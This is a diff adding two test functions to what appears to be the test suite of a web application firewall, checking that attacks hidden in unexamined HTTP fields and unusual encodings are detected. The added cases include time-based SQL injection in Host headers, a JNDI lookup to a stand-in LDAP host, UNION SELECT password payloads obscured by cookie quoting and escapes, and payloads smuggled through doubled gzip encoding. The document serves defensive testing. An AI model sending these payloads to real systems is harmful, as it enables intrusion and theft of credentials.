@@ -63,7 +63,34 @@ def steps_that_run_out():
     expect({}, {'many cookies': request(fields=[b'Cookie: ' + cookies])})
 
 
-TESTS = [flood_of_alerts, steps_that_run_out]
+def fields_that_were_not_looked_at():
+    expect({
+        'host': request(host=b"a'+(select(sleep(5)))+'"),
+        'authority of HTTP/1.0': b"GET http://a'+(select(sleep(5)))+'/ HTTP/1.0\r\n\r\n",
+        'sec-fetch-site': request(fields=[b'Sec-Fetch-Site: ${jndi:ldap://x.example/a}']),
+        'cookie with ; in quotes': request(fields=[b'Cookie: $Version=1; a="1\' UNION ;SELECT password FROM users--"']),
+        'cookie with escapes': request(fields=[b'Cookie: a="1\\\' \\U\\N\\I\\O\\N \\S\\E\\LECT password FROM users--"']),
+        'cookie with octal': request(fields=[b'Cookie: x=y; b=a="1\\047;\\040UNION SELECT password FROM users--"']),
+    }, {
+        'host and port': request(host=b'[2001:db8::1]:8080', fields=[b'Sec-Fetch-Site: same-origin', b'Sec-Fetch-Mode: no-cors']),
+        'quoted cookies': request(fields=[b'Cookie: a="x\\054y; z"; b=""; c="; d="\\"']),
+    })
+
+
+def codings_and_types_that_are_read_otherwise():
+    packed = gzip.compress(b'q=' + SQL_URL)
+    expect({
+        'identity, then gzip in a second field': request(fields=[FORM, b'Content-Encoding: identity', b'Content-Encoding: gzip'], body=packed),
+        'gzip in two fields': request(fields=[FORM, b'Content-Encoding: gzip', b'Content-Encoding: gzip'], body=gzip.compress(packed)),
+        'a comma ends the type': request(fields=[FORM + b',x'], body=b'\x01=1&q=' + SQL_URL),
+        'a space ends the type': request(fields=[FORM + b' x'], body=b'\x01=1&q=' + SQL_URL),
+    }, {
+        'gzip': request(fields=[FORM, b'Content-Encoding: gzip'], body=gzip.compress(b'q=1')),
+        'empty fields': request(fields=[FORM, b'Content-Encoding:', b'Content-Encoding: gzip'], body=gzip.compress(b'q=1')),
+    })
+
+
+TESTS = [flood_of_alerts, steps_that_run_out, fields_that_were_not_looked_at, codings_and_types_that_are_read_otherwise]
 for test in TESTS:
     test()
 if failures:
